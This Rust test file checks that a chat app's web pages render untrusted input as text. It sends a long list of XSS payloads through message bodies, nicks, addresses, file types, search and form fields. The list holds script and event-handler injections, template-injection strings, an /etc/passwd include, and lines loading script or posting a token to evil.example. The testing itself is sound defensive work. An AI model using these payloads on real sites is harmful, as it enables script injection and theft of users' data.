//! What strangers write is text on the page and nothing else: each payload as Body, nick, Addr, file type and search.

mod http_support;

use std::collections::BTreeSet;
use std::io::Write as _;

use http_support::browser::{Browser, Page, escape};
use http_support::{Peer, connect};
use serde_json::json;

/// Longest nick that is taken, in characters.
const NICK_CHARS_MAX: usize = 32;

/// After the collections of OWASP and PortSwigger: tags, handlers, links, breaks out of attributes, comments and elements, other
/// languages of templates, encodings.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{c}>alert(1)</script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=token>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</li></ol></section><script>alert(1)</script>",
    "</bdi><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\" style=\"background:url(//evil.example)",
    "x\" formaction=\"javascript:alert(1)",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>",
    "<?xml version=\"1.0\"?><x/>",
    "<x onclick=alert(1)>click</x>",
    "<div style=position:fixed;inset:0>over all</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include \"/etc/passwd\" %}",
    "javascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "http://example.com/\"onmouseover=\"alert(1)",
    "http://example.com/'><script>alert(1)</script>",
    "https://example.com/<img src=x onerror=alert(1)>",
    "http://javascript:alert(1)@example.com/",
    "[x](javascript:alert(1))",
    "<a href=http://example.com>http://example.com</a>",
    "\u{0}<script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "\u{2028}<script>alert(1)</script>",
    "<bdo dir=rtl>x</bdo><plaintext>",
];

/// Fails where a page holds anything that the templates do not write.
#[track_caller]
fn check(html: &str, shape: &BTreeSet<String>, what: &str) {
    let page = Page::of(html);
    let strange: Vec<_> = page.shape().difference(shape).cloned().collect();
    assert_eq!(strange, Vec::<String>::new(), "{what}");
    for name in page.shape() {
        let attribute = name.split_once(' ').map_or("", |(_, attribute)| attribute);
        assert!(!attribute.starts_with("on") && attribute != "style" && attribute != "srcdoc", "{name}: {what}");
    }
    assert_eq!(page.tags("script").count() + page.tags("iframe").count() + page.tags("style").count(), 0, "{what}");
    for place in page.places() {
        let fits = ["/", "#", "http://", "https://"].iter().any(|head| place.to_ascii_lowercase().starts_with(head));
        assert!(fits && !place.starts_with("//"), "{place}: {what}");
    }
}

/// All that pages of a peer hold while nobody means ill.
fn usual_shape(browser: &Browser<'_>) -> BTreeSet<String> {
    let pages = ["/", "/?search=http", "/?search=nowhere", "/?before=60", "/?reply=1"];
    pages.iter().flat_map(|path| browser.page(path).shape()).collect()
}

#[test]
fn payloads_are_text() {
    let peer = Peer::start();
    let browser = Browser::launched(&peer);
    let mut link = connect(peer.addr.parse().expect("an address"));
    let mut send = |id: String, body: &str, nick: &str, addr: &str, kind: &str| {
        let mut object = json!({"ID": id, "Addr": addr, "Nick": nick, "Body": body});
        if !kind.is_empty() {
            object["FileType"] = json!(kind);
            object["FileContents"] = json!("R0lGODlhAQABAAAAACw=");
        }
        link.write_all(object.to_string().as_bytes()).expect("it reads");
    };
    let mut events = peer.socket("");
    for number in 0..60 {
        let kind = if number % 2 == 0 { "image/gif" } else { "" };
        send(format!("usual-{number}"), "see http://example.com", "ann", "127.0.0.1:9", kind);
    }
    send("usual-action".to_owned(), "/me waves", "ann", "127.0.0.1:9", "");
    // Told as soon as it is there; on disk, where pages are read from, a little later.
    let mut wait_for = |id: &str| {
        let seq = std::iter::repeat_with(|| events.event_of("message")).find(|message| message["id"] == id);
        let seq = seq.expect("it goes on").get("seq").and_then(serde_json::Value::as_u64).expect("a seq");
        while peer.ask("GET", "/api/v1/status", "").json()["durable"].as_u64() < Some(seq) {}
    };
    wait_for("usual-action");
    peer.ask("POST", "/api/v1/blocks", r#"{"who":"127.0.0.9"}"#);
    let shape = usual_shape(&browser);
    let written = |page: &str| page.matches("data-seq=").count();

    for (number, payload) in PAYLOADS.iter().enumerate() {
        let nick: String = payload.chars().take(NICK_CHARS_MAX).collect();
        for (place, [body, nick, addr, kind]) in [
            [payload, "ann", "127.0.0.1:9", ""],
            ["hi", &nick, "127.0.0.1:9", ""],
            ["hi", "", payload, ""],
            ["hi", "ann", "127.0.0.1:9", payload],
        ]
        .into_iter()
        .enumerate()
        {
            send(format!("xss-{number}-{place}"), body, nick, addr, kind);
        }
    }
    wait_for(&format!("xss-{}-3", PAYLOADS.len() - 1));
    let mut path = "/".to_owned();
    let mut seen = 0;
    loop {
        let html = browser.get(&path).body;
        check(&html, &shape, &path);
        // One of them is the page's own.
        seen += written(&html) - 1;
        let page = Page::of(&html);
        let Some(older) = page.tags("a").filter_map(|tag| tag.get("href")).find(|href| href.starts_with("/?before="))
        else {
            break;
        };
        path = older.to_owned();
    }
    assert_eq!(seen, 61 + 4 * PAYLOADS.len(), "every message was looked at");
}

#[test]
fn payloads_that_are_asked_for_are_text() {
    let peer = Peer::start();
    let browser = Browser::launched(&peer);
    let mut shape = usual_shape(&browser);
    for path in ["/say", "/connect"] {
        let answer = browser.send(path, &[("body", "/nonsense\nx"), ("addr", "x")]);
        shape.extend(Page::of(&answer.body).shape());
    }
    let told = browser.send("/say", &[("body", "/blocks")]);
    assert_eq!(told.status, 303);
    shape.extend(browser.page("/").shape());
    for payload in PAYLOADS {
        let search = browser.get(&format!("/?search={}", escape(payload)));
        assert_eq!(search.status, 200, "{payload}");
        check(&search.body, &shape, payload);
        assert!(Page::of(&search.body).tags("input").any(|tag| tag.get("name") == Some("search")), "{payload}");
        for (path, field) in [("/say", "body"), ("/connect", "addr"), ("/block", "who"), ("/disconnect", "addr")] {
            let value = if path == "/say" { format!("/{payload}") } else { (*payload).to_owned() };
            let answer = browser.send(path, &[(field, &value)]);
            assert!(answer.status >= 400, "{path} {payload}: {}", answer.status);
            check(&answer.body, &shape, payload);
        }
    }
    assert!(PAYLOADS.len() >= 50);
}
